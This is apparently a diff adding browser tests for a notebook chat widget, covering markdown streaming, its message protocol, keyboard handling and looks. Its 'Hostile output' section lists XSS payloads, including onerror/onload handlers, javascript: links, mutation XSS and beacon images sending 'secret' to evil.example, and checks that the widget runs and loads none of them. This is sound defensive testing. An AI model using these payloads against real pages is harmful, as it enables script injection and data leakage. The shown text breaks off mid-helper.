@@ -1,0 +1,921 @@
+"""The built bundle in a real browser, with a fake model in place of the kernel."""
+
+# ruff: noqa: E501 - attacks and JavaScript are easier to read unbroken
+
+from __future__ import annotations
+
+import json
+import random
+import re
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+    from playwright.sync_api import Browser, Page
+
+STATIC = Path(__file__).parents[2] / "workbench" / "notebook" / "static"
+HARNESS = (Path(__file__).parent / "renderer" / "harness.js").read_text()
+NARROWEST = 320
+
+
+@pytest.fixture
+def open_page(browser: Browser) -> Iterator[Callable[..., Page]]:
+    """Return a function that opens a page of its own with the bundle loaded."""
+    pages = []
+
+    def open_page(traits: dict[str, Any] | None = None, **options: Any) -> Page:
+        pages.append(new_page(browser, traits or {}, **options))
+        return pages[-1]
+
+    yield open_page
+    for page in pages:
+        page.context.close()
+        assert page.failures == []
+
+
+@pytest.fixture(scope="module")
+def shared_page(browser: Browser) -> Iterator[Page]:
+    page = new_page(browser, {})
+    yield page
+    page.context.close()
+
+
+@pytest.fixture
+def page(shared_page: Page) -> Iterator[Page]:
+    """A page with the bundle loaded and nothing shown yet."""
+    yield shared_page
+    assert shared_page.failures == []
+    shared_page.evaluate("wb.clear()")
+
+
+def new_page(browser: Browser, traits: dict[str, Any], width: int = 800, **options: Any) -> Page:
+    """Open a page whose exceptions are kept in `failures` and whose requests are aborted and kept in `requested`."""
+    context = browser.new_context(viewport={"width": width, "height": 700}, **options)
+    page = context.new_page()
+    page.failures = []
+    page.requested = []
+    page.on("pageerror", lambda error: page.failures.append(str(error)))
+    page.route("**/*", lambda route: route.abort())
+    context.on("request", lambda request: page.requested.append(request.url))
+    load(page, traits)
+    return page
+
+
+def load(page: Page, traits: dict[str, Any]) -> None:
+    page.evaluate(
+        HARNESS,
+        {"source": (STATIC / "chat.js").read_text(), "css": (STATIC / "chat.css").read_text(), "traits": traits},
+    )
+    page.requested[:] = [url for url in page.requested if not url.startswith("blob:")]  # the bundle itself
+
+
+def show(page: Page, **options: Any) -> None:
+    page.evaluate("(options) => { wb.show(options) }", options)
+    settle(page)
+
+
+def settle(page: Page) -> None:
+    """Wait until everything received so far is on the screen."""
+    page.evaluate("wb.frame()")
+
+
+def receive(page: Page, **message: Any) -> None:
+    page.evaluate("(message) => model.receive(message)", message)
+    settle(page)
+
+
+def sent(page: Page, kind: str) -> list[dict[str, Any]]:
+    return page.evaluate("(kind) => model.of(kind)", kind)
+
+
+def type_and_send(page: Page, text: str) -> None:
+    page.fill(".wb-input", text)
+    page.press(".wb-input", "Enter")
+    settle(page)
+
+
+def start(page: Page, text: str = "hi") -> None:
+    page.evaluate("(text) => { window.turn = wb.start(model, text) }", text)
+    settle(page)
+
+
+def delta(page: Page, text: str, kind: str = "text") -> None:
+    page.evaluate("([text, kind]) => turn.delta(text, kind)", [text, kind])
+    settle(page)
+
+
+def end(page: Page, **more: Any) -> None:
+    page.evaluate("(more) => turn.end(more)", more)
+    settle(page)
+
+
+def visible(page: Page, selector: str) -> bool:
+    return page.locator(selector).is_visible()
+
+
+# --- Markdown ---------------------------------------------------------------------------------------------------
+
+FRAGMENTS = [
+    "# Heading\n",
+    "## Heading *two*\n\n",
+    "Setext one\n==========\n",
+    "Setext two\n---\n\n",
+    "plain words on a line\n",
+    "a paragraph\nof two lines\n\n",
+    "- one\n- two\n",
+    "- one\n  - nested\n    - deeper\n- two\n\n",
+    "* loose\n\n* list\n\n",
+    "1. first\n2. second\n   continued\n",
+    "3. third\n\n   with a paragraph\n\n",
+    "- [ ] to do\n- [x] done\n\n",
+    "1. a\n   - b\n     1. c\n\n",
+    "| a | b |\n|---|--:|\n| 1 | 2 |\n",
+    "| x |\n|:-:|\n| `y` |\n| z |\n\n",
+    "```python\ndef f():\n    return 1\n```\n",
+    "```\nno language\n\nwith a gap\n```\n\n",
+    "~~~sql\nSELECT 1;\n~~~\n\n",
+    "~~~\n```\ninner\n```\n~~~\n",
+    "````md\n```\nnested fence\n```\n````\n",
+    "> a quote\n> over two lines\n",
+    "> quote\n>\n> - with a list\n\n",
+    "> lazy\ncontinuation\n\n",
+    "    indented code\n    more\n\n",
+    "<div>raw **html**</div>\n",
+    "<b>inline</b> html and <br> a break\n\n",
+    "<!-- a comment -->\n\n",
+    "[ref]: https://example.org 'Title'\n\n",
+    "see [ref] and [text][ref]\n",
+    "* * *\n",
+    "---\n\n",
+    "an `unclosed backtick\n",
+    "some **bold** and _em_ and ~~gone~~\n",
+    "https://example.org/bare and <https://example.org/angle>\n\n",
+    "a [link](https://example.org \"t\") and ![image](https://example.org/i.png)\n",
+    "hard  \nbreak\\\nhere\n\n",
+    "\n",
+    "\n\n",
+]  # fmt: skip
+
+# What a reader sees, whichever way it was built: no tail box, no colours, one space for many.
+NORMALISED = """
+(body) => {
+  const copy = body.cloneNode(true);
+  for (const tail of copy.querySelectorAll(".wb-tail, pre code span")) tail.replaceWith(...tail.childNodes);
+  return copy.innerHTML.replace(/\\s+/g, " ").replaceAll("> <", "><").trim();
+}
+"""
+
+FUZZ = """
+([documents, sizes]) => {
+  // paint when told to, not 60 times a second
+  let due = [];
+  window.requestAnimationFrame = (callback) => due.push(callback);
+  const paint = () => due.splice(0).forEach((callback) => callback());
+  const normalised = NORMALISED;
+  return documents.map((source, n) => {
+    const streamed = wb.show({ attached: false }); // no layout: only the DOM is compared
+    const turn = wb.start(streamed);
+    for (let at = 0, i = n; at < source.length; i++) {
+      const size = sizes[i % sizes.length];
+      turn.delta(source.slice(at, at + size));
+      at += size;
+      paint();
+    }
+    const before = normalised(wb.body(streamed));
+    turn.end();
+    paint();
+    const after = normalised(wb.body(streamed));
+    const whole = wb.show({ attached: false, snap: { messages: [{ message_id: "m", role: "assistant", status: "complete", text: source }] } });
+    paint();
+    const oneShot = normalised(wb.body(whole));
+    for (const model of [streamed, whole]) { model.close(); model.el.remove(); }
+    return { before, after, oneShot };
+  });
+}
+""".replace("NORMALISED", NORMALISED)
+
+
+def test_markdown_in_pieces_looks_like_markdown_at_once(open_page: Callable[..., Page]) -> None:
+    page = open_page()
+    rng = random.Random(20261123)
+    documents = ["".join(rng.choices(FRAGMENTS, k=rng.randint(3, 12))) + "end." for _ in range(300)]
+    sizes = [rng.randint(1, 6) for _ in range(997)]
+
+    rendered = page.evaluate(FUZZ, [documents, sizes])
+
+    unlike = [(d, r) for d, r in zip(documents, rendered, strict=True) if r["before"] != r["oneShot"]]
+    # a reference used before its definition is the one thing that must change afterwards
+    assert [(d, r) for d, r in unlike if not re.search(r"\[ref\](?!:)", d)] == []
+    assert len(unlike) < len(documents) * 0.05
+    assert [d for d, r in zip(documents, rendered, strict=True) if r["after"] != r["oneShot"]] == []
+    assert len({r["oneShot"] for r in rendered}) > 290  # it did render something
+
+
+def one_message(page: Page, text: str) -> None:
+    show(page, snap={"messages": [{"message_id": "m", "role": "assistant", "status": "complete", "text": text}]})
+
+
+def test_closed_code_is_highlighted_and_copied_whole(page: Page) -> None:
+    one_message(page, "```python\ndef f():\n    return '<b>'\n```\n\nand\n\n```nonsense\nx\n```")
+
+    assert page.locator(".wb-code").nth(0).locator(".hljs-keyword").all_text_contents() == ["def", "return"]
+    assert page.locator(".wb-code").nth(1).locator("[class^=hljs]").count() == 0
+    assert page.locator(".wb-code-lang").all_text_contents() == ["python", "nonsense"]
+
+    page.evaluate("navigator.clipboard ??= {}; navigator.clipboard.writeText = async (t) => { window.copied = t }")
+    page.locator(".wb-copy").first.click()
+    assert page.evaluate("copied") == "def f():\n    return '<b>'"
+    assert page.locator(".wb-copy").first.text_content() == "Copied"
+
+
+def test_open_code_is_not_highlighted_yet(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "```python\ndef f():\n")
+    assert page.locator(".hljs-keyword").count() == 0
+    delta(page, "    pass\n```\n\nDone.\n")
+    assert page.locator(".hljs-keyword").count() == 2
+
+
+def test_finished_blocks_are_left_alone(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "First paragraph.\n\nSecond paragraph.\n\n")
+    page.evaluate("window.first = document.querySelector('.wb-md p')")
+    delta(page, "Third *paragraph*.")
+    end(page)
+    assert page.evaluate("first === document.querySelector('.wb-md p') && first.isConnected")
+
+
+def test_tables_keep_their_alignment_and_links_open_elsewhere(page: Page) -> None:
+    one_message(
+        page, "| a | n |\n|---|--:|\n| x | 1 |\n\n[link](https://example.org/x) ![pic](https://example.org/y.png)"
+    )
+    assert page.locator(".wb-table td").nth(1).evaluate("td => getComputedStyle(td).textAlign") == "right"
+    links = page.locator(".wb-md a").evaluate_all("all => all.map(a => [a.textContent, a.href, a.target, a.rel])")
+    assert links == [
+        ["link", "https://example.org/x", "_blank", "noopener noreferrer"],
+        ["[image: pic]", "https://example.org/y.png", "_blank", "noopener noreferrer"],
+    ]
+
+
+# --- Hostile output ---------------------------------------------------------------------------------------------
+
+PWN = "window.__pwn=1"
+ATTACKS = {
+    "img onerror": f'<img src=x onerror="{PWN}">',
+    "script": f"<script>{PWN}</script>",
+    "svg onload": f'<svg onload="{PWN}"><a xlink:href="javascript:{PWN}"><text>x</text></a></svg>',
+    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
+    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
+    "style": "<style>@import url(https://evil.example/s.css); *{background:url(https://evil.example/b)}</style>",
+    "form": '<form action="https://evil.example"><input name=q autofocus onfocus="window.__pwn=1"><button>Go</button></form>',
+    "object": '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
+    "media": '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a" autoplay></audio>',
+    "link and meta": '<link rel=stylesheet href="https://evil.example/l"><meta http-equiv=refresh content="0;https://evil.example/m"><base href="https://evil.example/">',
+    "javascript link": f"[click](javascript:{PWN}) [click](JaVaScRiPt:{PWN}) [click](&#106;avascript:{PWN}) <javascript:{PWN}>",
+    "javascript with blanks": f"[click](<java\tscript:{PWN}>) [click](<\x01javascript:{PWN}>)",
+    "javascript image": f"![x](javascript:{PWN})",
+    "data link": f"[click](data:text/html,<script>{PWN}</script>) ![x](data:image/svg+xml,<svg/onload={PWN}>)",
+    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//evil.example/x) [e](relative) [f](#top)",
+    "beacon image": "![x](https://evil.example/?q=secret) [![x](https://evil.example/b.png)](https://evil.example/c)",
+    "beacon reference": "![x][b]\n\n[b]: https://evil.example/?q=secret",
+    "quotes in an address": f'[a](https://evil.example/"onmouseover="{PWN}) [b](<https://evil.example/"onclick="{PWN}>)',
+    "quotes in a title": f'[a](https://evil.example "x\\" onmouseover=\\"{PWN}")',
+    "quotes in alt": f'![x" onerror="{PWN}](https://evil.example/i.png)',
+    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/s)">x</p>',
+    "clobbering": "<a id=model name=wb></a><img name=cookie><form id=body><input name=parentNode></form>",
+    "aria and title": '<p aria-label="Send your key" title="Send your key" role=alert aria-live=assertive tabindex=1>x</p>',
+    "our own classes": '<div class="wb-notice"><button class="wb-button wb-retry wb-send wb-copy">Retry</button></div>',
+    "class in an info string": f'```python" class="wb-retry" onclick="{PWN}\ncode\n```\n\n```"><img/src=x/onerror={PWN}>\ncode\n```',
+    "html in markdown": f'- item <img src=x onerror="{PWN}">\n  > quote **<script>{PWN}</script>**\n\n| <svg onload="{PWN}"> | b |\n|---|---|\n| <img src=x onerror="{PWN}"> | `<img src=x onerror={PWN}>` |',
+    "markdown in html": f'<div>\n\n[click](javascript:{PWN})\n\n</div>',
+    "unclosed": f'<img src="x" onerror="{PWN}" x="',
+    "mutation": f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
+    "comment": f"<!--><img src=x onerror={PWN}>-->",
+    "hostile code": f"```html\n</code></pre><img src=x onerror={PWN}><script>{PWN}</script>\n```",
+    "entities": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
+    "template": f'<template><script>{PWN}</script></template><slot name=x></slot><portal src="https://evil.example/p">',
+}  # fmt: skip
+
+STREAM_CHARACTERS = """
+([attack]) => {
+  const model = wb.show();
+  const turn = wb.start(model);
+  for (const character of attack) {
+    turn.delta(character);
+    due.splice(0).forEach((callback) => callback());
+  }
+  return turn;
+}
+"""
+
+FOREIGN = """
+() => {
+  const tags = new Set("P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL A CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD DIV SPAN BUTTON".split(" "));
+  const names = new Set(["href", "target", "rel", "title", "align", "start", "data-lang", "tabindex", "class", "type"]);
+  const classes = /^(wb-tail|wb-plain|wb-table|wb-code|wb-code-head|wb-code-lang|wb-copy|hljs-[\\w-]+|[a-z]+_|language-\\w+)$/;
+  const found = [];
+  for (const element of document.querySelectorAll(".wb-md *")) {
+    if (!tags.has(element.tagName)) found.push(element.tagName);
+    for (const { name, value } of element.attributes) {
+      if (!names.has(name)) found.push(`${element.tagName} ${name}=${value}`);
+      if (name === "href" && !/^(https?|mailto):/i.test(value)) found.push(value);
+      if (name === "title" && value !== element.href) found.push(`title=${value}`);
+    }
+    for (const name of element.classList) if (!classes.test(name)) found.push(`class ${name}`);
+  }
+  for (const button of document.querySelectorAll(".wb-md button")) if (!button.closest(".wb-code-head")) found.push("button");
+  return found;
+}
+"""
+
+
+def test_hostile_replies_run_nothing_and_load_nothing(open_page: Callable[..., Page]) -> None:
+    page = open_page()
+    page.evaluate("() => { window.due = []; window.requestAnimationFrame = (callback) => due.push(callback) }")
+    found = {}
+    for name, attack in ATTACKS.items():
+        page.evaluate(f"(attack) => {{ const turn = ({STREAM_CHARACTERS})(attack); window.turn = turn }}", [attack])
+        streamed = page.evaluate(FOREIGN)
+        page.evaluate("() => { turn.end(); due.splice(0).forEach((callback) => callback()) }")
+        found[name] = streamed + page.evaluate(FOREIGN)
+        page.evaluate(
+            "() => document.querySelectorAll('.wb-md a').forEach((a) => a.dispatchEvent(new Event('mouseover')))"
+        )
+        page.evaluate("() => { model.close(); model.el.remove() }")
+    page.wait_for_timeout(300)  # what was set off would have asked for its address by now
+
+    assert {name: what for name, what in found.items() if what} == {}
+    assert page.evaluate("typeof window.__pwn") == "undefined"
+    assert page.requested == []
+    assert page.url == "about:blank"
+
+
+def test_hostile_names_stay_text_everywhere_else(page: Page) -> None:
+    hostile = f'<img src=x onerror="{PWN}">'
+    messages = [
+        {"message_id": hostile, "role": "user", "status": "complete", "text": hostile},
+        {"message_id": "m", "role": "assistant", "status": "failed", "text": "x", "footer": hostile},
+    ]
+    show(page, snap={"title": hostile, "model": hostile, "messages": messages})
+    receive(page, t="err", turn=None, error=hostile, message=hostile, type="x", retryable=False)
+    assert page.locator(".wb-chat img").count() == 0
+    assert page.locator(".wb-message[data-role=user] .wb-body").text_content() == hostile
+    assert page.evaluate("typeof window.__pwn") == "undefined"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["x" * 60_000, "[" * 8_000, "> " * 6_000 + "x", "*a " * 6_000, "```\n" + "long line " * 5_000, "|a" * 4_000],
+    ids=["one word", "brackets", "nested quotes", "stars", "open code", "pipes"],
+)  # fmt: skip
+def test_pathological_text_neither_hangs_nor_widens_the_chat(page: Page, text: str) -> None:
+    show(page)
+    seconds = page.evaluate(
+        """async (text) => {
+          const began = performance.now();
+          window.turn = wb.start(model);
+          for (let at = 0; at < text.length; at += 4000) { turn.delta(text.slice(at, at + 4000)); await wb.frame(); }
+          turn.end();
+          await wb.frame();
+          return (performance.now() - began) / 1000;
+        }""",
+        text,
+    )
+    assert seconds < 10
+    assert page.locator(".wb-message[data-role=assistant]").get_attribute("data-status") == "complete"
+    assert (
+        page.evaluate("document.querySelector('.wb-log').scrollWidth - document.querySelector('.wb-log').clientWidth")
+        == 0
+    )
+
+
+def test_raw_html_is_shown_as_it_was_written(page: Page) -> None:
+    one_message(page, "<div>\n<b>bold</b>\n</div>\n\nand <u>inline</u>, a | b<br>c")
+    assert " ".join(page.inner_text(".wb-md").split()) == "<div> <b>bold</b> </div> and <u>inline</u>, a | b c"
+
+
+# --- Protocol ---------------------------------------------------------------------------------------------------
+
+
+def test_it_says_hello_and_shows_the_snapshot(page: Page) -> None:
+    show(
+        page,
+        snap={
+            "messages": [
+                {"message_id": "u", "role": "user", "status": "complete", "text": "two\nlines"},
+                {
+                    "message_id": "a",
+                    "role": "assistant",
+                    "status": "complete",
+                    "text": "**yes**",
+                    "footer": "12 in · 3 out",
+                },
+            ],
+            "cost_usd": "0.01234",
+        },
+    )
+    [hello] = sent(page, "hello")
+    assert hello["have"] == {}
+    assert hello["c"]
+    assert page.locator(".wb-title").text_content() == "Prime numbers"
+    assert page.locator(".wb-model").text_content() == "claude-sonnet-5-5"
+    assert page.locator(".wb-cost").text_content() == "$0.0123"
+    assert page.locator(".wb-message").evaluate_all("all => all.map(m => [m.dataset.role, m.dataset.status])") == [
+        ["user", "complete"],
+        ["assistant", "complete"],
+    ]
+    assert page.locator(".wb-md strong").text_content() == "yes"
+    assert page.locator(".wb-message[data-role=user] .wb-body").text_content() == "two\nlines"
+
+
+def test_the_badge_says_that_the_model_is_the_embedded_one(page: Page) -> None:
+    show(page, snap={"local": True, "model": "local"})
+    assert page.locator(".wb-model").text_content() == "embedded demonstration model"
+
+
+def test_no_message_has_an_id_at_its_top(page: Page) -> None:
+    show(page)
+    type_and_send(page, "hi")
+    page.click(".wb-stop")
+    messages = page.evaluate("model.sent")
+    assert [m["t"] for m in messages] == ["hello", "send", "stop"]
+    assert all("id" not in m and m["c"] for m in messages)
+    assert len({m["c"] for m in messages}) == 3
+
+
+def test_a_turn_from_send_to_footer(page: Page) -> None:
+    show(page)
+    type_and_send(page, "hi")
+    assert sent(page, "send")[0]["text"] == "hi"
+    assert page.input_value(".wb-input") == ""
+    start(page)
+    assert page.locator(".wb-message[data-role=user]").count() == 1
+    reply = page.locator(".wb-message[data-role=assistant]")
+    assert reply.get_attribute("data-status") == "streaming"
+    assert reply.locator(".wb-state").text_content() == "thinking…"
+    delta(page, "let me see", "think")
+    assert reply.locator(".wb-state").text_content() == "thinking…"
+    delta(page, "Hello ")
+    delta(page, "there")
+    assert reply.locator(".wb-body").inner_text() == "Hello there"
+    assert not reply.locator(".wb-state").text_content()
+    receive(
+        page,
+        t="usage",
+        turn=page.evaluate("turn.turn"),
+        input_tokens=1204,
+        output_tokens=2,
+        cost_usd="0.003",
+        final=False,
+    )
+    assert reply.locator(".wb-footer").text_content() == "1,204 in · 2 out · $0.0030"
+    assert page.locator(".wb-cost").text_content() == "$0.0030"
+    end(page)
+    assert reply.get_attribute("data-status") == "complete"
+    assert reply.locator(".wb-footer").text_content() == "claude-sonnet-5-5 · 12 in · 34 out · $0.0004 · 1.2 s"
+    assert page.locator(".wb-cost").text_content() == "$0.0004"
+    assert len(sent(page, "hello")) == 1
+    assert visible(page, ".wb-send")
+    assert not visible(page, ".wb-stop")
+
+
+def test_stop_is_there_from_the_moment_of_send(page: Page) -> None:
+    show(page, autoAck=False)
+    type_and_send(page, "hi")
+    assert visible(page, ".wb-stop")
+    assert not visible(page, ".wb-send")
+    page.press(".wb-input", "Escape")
+    settle(page)
+    assert [m["turn"] for m in sent(page, "stop")] == [None]
+    start(page)
+    assert [m["turn"] for m in sent(page, "stop")] == [None, page.evaluate("turn.turn")]
+    end(page, status="interrupted")
+    assert page.locator(".wb-message[data-role=assistant]").get_attribute("data-status") == "interrupted"
+    assert visible(page, ".wb-retry")
+
+
+def test_escape_stops_the_running_turn_once(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "Hel")
+    page.focus(".wb-input")
+    page.keyboard.press("Escape")
+    page.keyboard.press("Escape")
+    assert [m["turn"] for m in sent(page, "stop")] == [page.evaluate("turn.turn")]
+
+
+def test_a_turn_stopped_before_it_began_gives_the_text_back(page: Page) -> None:
+    show(page)
+    type_and_send(page, "hi")
+    page.click(".wb-stop")
+    receive(page, t="err", turn=None, error="Stopped", message="stopped", type="stopped", retryable=True)
+    assert page.input_value(".wb-input") == "hi"
+    assert not visible(page, ".wb-notice")
+    assert page.locator(".wb-message").count() == 0
+
+
+def test_a_missing_batch_is_fetched_by_hello(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "one ")
+    page.evaluate("() => { turn.delta('lost', 'text', 3); turn.delta('too', 'text', 4) }")
+    settle(page)
+    [_, hello] = sent(page, "hello")
+    assert list(hello["have"].values()) == [1]
+    body = page.locator(".wb-message[data-role=assistant] .wb-body")
+    assert body.inner_text() == "one"
+    turn = page.evaluate("turn.turn")
+    page.evaluate(
+        "(live) => model.receive({ ...wb.SNAP, messages: [{ message_id: 'u-' + live.turn, role: 'user', status: 'complete', text: 'hi' }], live })",
+        {"turn": turn, "message_id": f"m-{turn}", "seq": 4, "text": "one two three "},
+    )
+    page.evaluate("turn.delta('four', 'text', 5)")
+    settle(page)
+    assert body.inner_text() == "one two three four"
+    assert visible(page, ".wb-stop")
+
+
+def test_a_reply_of_another_length_is_fetched_by_hello(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "Hello 😀")
+    end(page, len=7)
+    assert len(sent(page, "hello")) == 1
+    start(page)
+    delta(page, "Hello")
+    end(page, len=9)
+    assert len(sent(page, "hello")) == 2
+
+
+def test_a_snapshot_that_does_not_come_is_asked_for_again(open_page: Callable[..., Page]) -> None:
+    page = open_page()
+    page.clock.install()
+    show_now = "() => { wb.show({ snap: null }) }"
+    page.evaluate(show_now)
+    page.clock.run_for(2900)
+    assert len(sent(page, "hello")) == 1
+    page.clock.run_for(200)
+    assert len(sent(page, "hello")) == 2
+
+
+def test_no_ack_means_a_busy_kernel_then_a_lost_one(open_page: Callable[..., Page]) -> None:
+    page = open_page()
+    page.clock.install()
+    page.evaluate("() => { wb.show({ autoAck: false }) }")
+    page.clock.run_for(50)
+    page.fill(".wb-input", "hello?")
+    page.press(".wb-input", "Enter")
+    page.clock.run_for(350)
+    assert "kernel busy" not in page.inner_text(".wb-chat")
+    page.clock.run_for(100)
+    assert "kernel busy - queued" in page.inner_text(".wb-chat")
+    assert page.is_enabled(".wb-input")
+    page.clock.run_for(1600)
+    assert "not connected - run the cell again" in page.inner_text(".wb-notice")
+    assert page.is_disabled(".wb-input")
+    assert page.input_value(".wb-input") == "hello?"
+    page.evaluate("() => model.receive({ t: 'ack', c: model.of('send')[0].c })")
+    page.clock.run_for(50)
+    assert page.is_enabled(".wb-input")
+    assert page.input_value(".wb-input") == ""  # it was delivered after all
+    assert not visible(page, ".wb-notice")
+    assert page.evaluate("document.activeElement.className") == "wb-input"
+
+
+def test_a_draft_is_kept_while_not_connected(open_page: Callable[..., Page]) -> None:
+    page = open_page()
+    page.clock.install()
+    page.evaluate("() => { wb.show({ snap: null, autoAck: false }) }")
+    page.fill(".wb-input", "half a thou")
+    page.clock.run_for(2100)
+    assert page.is_disabled(".wb-input")
+    assert page.input_value(".wb-input") == "half a thou"
+    page.evaluate("() => { model.autoAck = true; }")
+    page.click(".wb-notice button")
+    page.clock.run_for(50)
+    assert page.is_enabled(".wb-input")
+    assert page.input_value(".wb-input") == "half a thou"
+
+
+def test_a_refused_turn_gives_the_text_back_and_says_why(page: Page) -> None:
+    show(page)
+    type_and_send(page, "expensive")
+    message = "org 'acme' has $0.0100 left this month and this turn may cost $0.1000; shorten it or raise the budget"
+    receive(page, t="err", turn=None, error="Budget Exceeded", message=message, type="budget_exceeded", retryable=False)
+    assert message in page.inner_text(".wb-notice")
+    assert page.input_value(".wb-input") == "expensive"
+    assert page.locator(".wb-message").count() == 0
+    assert visible(page, ".wb-send")
+    page.click(".wb-notice button")
+    settle(page)
+    assert not visible(page, ".wb-notice")
+
+
+def test_a_failed_reply_is_kept_and_can_be_retried(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "Hel")
+    turn = page.evaluate("turn.turn")
+    receive(
+        page,
+        t="err",
+        turn=turn,
+        error="Stream failed",
+        message="Claude is overloaded",
+        type="upstream_overloaded",
+        retryable=True,
+        retry_after=11.2,
+    )
+    end(page, status="failed")
+    reply = page.locator(".wb-message[data-role=assistant]")
+    assert reply.get_attribute("data-status") == "failed"
+    assert "Claude is overloaded (retry after 12 s)" in reply.inner_text()
+    assert "Hel" in reply.inner_text()
+    page.click(".wb-retry")
+    settle(page)
+    assert [m["message_id"] for m in sent(page, "retry")] == [f"m-{turn}"]
+    assert visible(page, ".wb-stop")
+    receive(page, t="start", turn="again", message_id="m2", user_message_id=f"u-{turn}", text="hi", model="m")
+    assert page.locator(".wb-message").evaluate_all("all => all.map(m => [m.dataset.role, m.dataset.status])") == [
+        ["user", "complete"],
+        ["assistant", "streaming"],
+    ]
+
+
+def test_two_views_show_the_same_turn(page: Page) -> None:
+    page.evaluate("() => { window.a = wb.show(); window.b = wb.show(); a.send = b.send = () => {} }")
+    page.evaluate(
+        "() => { for (const m of [a, b]) { const turn = wb.start(m, 'from elsewhere', 'same'); turn.delta('yes'); turn.end() } }"
+    )
+    settle(page)
+    assert page.locator(".wb-message[data-role=user] .wb-body").all_text_contents() == ["from elsewhere"] * 2
+    assert page.locator(".wb-message[data-role=assistant] .wb-body").all_inner_texts() == ["yes"] * 2
+
+
+def test_another_protocol_version_is_said_and_nothing_is_sent(open_page: Callable[..., Page]) -> None:
+    page = open_page(traits={"protocol": 2})
+    show(page)
+    assert "different versions" in page.inner_text(".wb-notice")
+    assert page.is_disabled(".wb-input")
+
+
+# --- Keys, drafts, scrolling ------------------------------------------------------------------------------------
+
+
+def test_enter_sends_and_shift_enter_begins_a_line(page: Page) -> None:
+    show(page)
+    page.focus(".wb-input")
+    page.keyboard.type("one")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("two")
+    assert sent(page, "send") == []
+    page.keyboard.press("Enter")
+    assert [m["text"] for m in sent(page, "send")] == ["one\ntwo"]
+
+
+def test_nothing_is_sent_empty_or_while_composing_or_twice(page: Page) -> None:
+    show(page)
+    page.fill(".wb-input", "  \n ")
+    page.press(".wb-input", "Enter")
+    page.fill(".wb-input", "にほん")
+    page.evaluate(
+        "() => document.querySelector('.wb-input').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, isComposing: true }))"
+    )
+    assert sent(page, "send") == []
+    page.press(".wb-input", "Enter")
+    page.fill(".wb-input", "second")
+    page.press(".wb-input", "Enter")
+    assert [m["text"] for m in sent(page, "send")] == ["にほん"]
+    assert page.input_value(".wb-input") == "second"
+
+
+def test_keys_do_not_reach_jupyterlab(page: Page) -> None:
+    show(page)
+    page.evaluate(
+        "() => { window.keys = []; for (const type of ['keydown', 'keypress', 'keyup']) document.addEventListener(type, (e) => keys.push(e.key)) }"
+    )
+    page.focus(".wb-input")
+    for key in ["a", "Escape", "Shift+Enter", "Enter", "Control+Enter"]:
+        page.keyboard.press(key)
+    page.focus(".wb-log")
+    page.keyboard.press("d")
+    assert page.evaluate("keys") == []
+    assert page.locator(".wb-chat").get_attribute("data-lm-suppress-shortcuts") == "true"
+
+
+def test_draft_caret_and_focus_survive_a_new_view(page: Page) -> None:
+    show(page)
+    page.focus(".wb-input")
+    page.keyboard.type("half a thought")
+    for _ in range(8):
+        page.keyboard.press("ArrowLeft")
+    page.evaluate("() => { model.el.remove(); model.close() }")
+    show(page)
+    assert page.evaluate("(({ value, selectionStart }) => [value, selectionStart])(document.activeElement)") == [
+        "half a thought",
+        6,
+    ]
+
+
+def test_drafts_of_two_chats_are_apart_and_a_chat_left_long_ago_takes_no_focus(page: Page) -> None:
+    show(page)
+    page.fill(".wb-input", "for chat one")
+    page.evaluate("() => { model.el.remove(); model.close(); __workbenchDrafts.get('c1').goneAt -= 60000 }")
+    show(page, traits={"chat_id": "c2", "protocol": 1})
+    assert page.input_value(".wb-input") == ""
+    page.evaluate("() => { model.el.remove(); model.close() }")
+    show(page)
+    assert page.input_value(".wb-input") == "for chat one"
+    assert page.evaluate("document.activeElement === document.body")
+
+
+def test_it_follows_the_text_only_while_the_reader_is_at_the_bottom(page: Page) -> None:
+    show(page)
+    start(page)
+    delta(page, "line\n\n" * 80)
+    bottom = "(({ scrollTop, scrollHeight, clientHeight }) => scrollHeight - scrollTop - clientHeight)(document.querySelector('.wb-log'))"
+    assert page.evaluate(bottom) < 2
+    delta(page, "line\n\n" * 20)
+    assert page.evaluate(bottom) < 2
+    assert not visible(page, ".wb-jump")
+    page.evaluate("document.querySelector('.wb-log').scrollTop = 100")
+    settle(page)
+    delta(page, "line\n\n" * 20)
+    assert page.evaluate("document.querySelector('.wb-log').scrollTop") == 100
+    page.click(".wb-jump")
+    settle(page)
+    assert page.evaluate(bottom) < 2
+
+
+def test_focus_stays_inside_when_the_button_under_it_goes(page: Page) -> None:
+    show(page)
+    type_and_send(page, "hi")
+    start(page)
+    page.focus(".wb-stop")
+    end(page)
+    assert page.evaluate("document.activeElement.className") == "wb-input"
+
+
+def test_a_closed_view_listens_no_more(page: Page) -> None:
+    show(page)
+    page.evaluate("() => model.close()")
+    receive(page, t="start", turn="t", message_id="m", user_message_id="u", text="x", model="m")
+    assert page.locator(".wb-message").count() == 0
+
+
+# --- Looks ------------------------------------------------------------------------------------------------------
+
+CONTRAST = """
+() => {
+  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
+  const rgba = (colour) => {
+    canvas.clearRect(0, 0, 1, 1);
+    canvas.fillStyle = colour;
+    canvas.fillRect(0, 0, 1, 1);
+    const [r, g, b, a] = canvas.getImageData(0, 0, 1, 1).data;
+    return [r, g, b, a / 255];
+  };
